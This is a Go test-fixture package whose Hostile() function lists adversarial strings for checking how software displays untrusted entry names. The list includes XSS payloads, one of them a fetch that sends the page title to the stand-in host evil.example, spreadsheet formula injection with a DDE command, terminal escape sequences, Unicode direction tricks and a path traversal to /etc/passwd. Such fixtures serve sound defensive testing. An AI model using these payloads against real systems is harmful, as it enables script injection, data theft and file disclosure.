// Package texttest holds texts that hurt whoever shows them as they are.
// Nothing but tests imports it.
package texttest

import "strings"

// Hostile returns texts as an attacker would name an entry.
func Hostile() []string {
	return []string{
		`<script>fetch("https://evil.example/"+document.title)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`</title></style></script><svg onload=alert(1)>`,
		`<a href="javascript:alert(1)">click</a>`,
		`{{.Secret}} ${7*7} <%= 1 %>`,
		`&lt;b&gt; &amp; &#x3c;`,
		"[link](https://evil.example/) ![img](https://evil.example/i.png)",
		"https://evil.example/ www.evil.example evil@evil.example mailto:evil@evil.example",
		"| a | b |\n| --- | --- |\n# heading\n- item\n1. item\n> quote\n```\ncode\n```",
		"*bold* _it_ ~~no~~ `code` \\ ![x][y] [^1] $math$ :smile: #1 @team",
		"<!-- comment --> <details> &nbsp; <!DOCTYPE html>",
		"=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", " =1+1", "＝1+1", "'=1", "\"=1\"", "|cmd", "%0a=1",
		"a,b;c\"d\r\n=1,2",
		"\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07", "\x1b[2J\x1b[31mred", "\x9b31mred", "\x90q\x9c", "\x00nul\x08\x7f",
		"user\u202egpj.exe", "\u2066left\u2069", "\u200f\u200e\u061c", "zero\u200bwidth\u200d\ufeff", "\U000e0041tag",
		"שלום עולם", "مرحبا", "\u3164", "\u2800\u2800",
		"a" + strings.Repeat("\u0301", 500),
		strings.Repeat("長い名前", 2500), strings.Repeat("x", 10_000), strings.Repeat("。", 300),
		"\xff\xfe invalid \xc3\x28", "\u2028line\u2029para\u0085next",
		"{count} {site} {policy} %s %d %!x(MISSING)", "…", "", " ", "A1", "E1", "\x00person",
		"javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "../../../etc/passwd", "xn--80ak6aa92e.com", "evil.example/..//x", "evil.example\\@good.example",
	}
}
